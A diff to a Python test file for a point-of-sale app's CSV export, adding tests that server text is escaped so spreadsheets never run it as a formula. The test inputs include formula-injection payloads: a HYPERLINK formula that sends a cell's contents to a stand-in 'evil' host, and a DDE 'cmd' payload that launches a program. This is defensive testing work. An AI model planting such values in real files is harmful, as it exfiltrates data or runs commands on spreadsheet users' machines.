@@ -1,5 +1,6 @@
 """The history's CSV export: bytes Excel reads (BOM), rows equal to the history's, no full
-card code unless asked, never the cost, and no half file after a failure."""
+card code unless asked, never the cost, no cell a spreadsheet would run as a formula, and no
+half file after a failure."""
 
 from __future__ import annotations
 
@@ -11,7 +12,7 @@ import pytest
 
 from pos_app.domain.sale_states import SaleState
 from pos_app.store import CSV_COLUMNS, HistoryFilter, Store, write_history_csv
-from pos_app.store.export import partial_path
+from pos_app.store.export import partial_path, spreadsheet_text
 from tests.store.conftest import Clock
 from tests.store.test_history import LTE, add
 
@@ -127,3 +128,40 @@ def test_a_failure_leaves_no_partial_file_and_the_old_file_whole(
     assert not partial_path(path).exists()
     assert path.read_bytes() == b"yesterday's export"
     assert not [p for p in tmp_path.iterdir() if p.name.endswith(".partial")]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("http://evil/?x"&A1,"click")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_text_from_the_server_never_runs_as_a_formula(
+    store: Store, clock: Clock, tmp_path: Path, text: str
+) -> None:
+    ref = add(store, state=SaleState.SENDING)
+    store.transition(ref, SaleState.SENDING, SaleState.ACCEPTED, "test")
+    store.transition(
+        ref, SaleState.ACCEPTED, SaleState.FULFILLED, "test", card_code="1234", num_trans=text
+    )
+    failed = add(store, state=SaleState.SENDING)
+    store.transition(failed, SaleState.SENDING, SaleState.REJECTED, "test", failure_code=text)
+    path = tmp_path / "history.csv"
+    write_history_csv(store, HistoryFilter(), path, headers={"ref": "=ref"})
+    header, *body = read_csv(path)
+    by_ref = {line[1]: line for line in body}
+    assert by_ref[ref][8] == "'" + text  # shown as the text it is, never run
+    assert by_ref[failed][9] == "'" + text
+    assert header[1] == "'=ref"
+    assert by_ref[ref][4:6] == ["1000", "1000"]  # our own numbers stay numbers
+    assert by_ref[ref][12] == "0"
+
+
+def test_plain_text_and_numbers_are_left_as_they_are() -> None:
+    for text in ("NT-2026-001", "036362608", "أمينة", "", "a=b", "C1-20260301T093000-1"):
+        assert spreadsheet_text(text) == text
